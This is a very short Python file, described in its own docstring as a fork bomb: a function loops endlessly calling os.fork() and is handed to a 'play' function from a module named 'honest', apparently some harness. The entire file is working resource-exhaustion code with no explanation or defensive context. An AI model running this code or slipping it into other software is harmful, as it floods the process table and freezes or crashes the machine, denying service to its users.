"""A fork bomb."""
import os
import honest


def trick(go):
    while True:
        os.fork()


honest.play(trick)
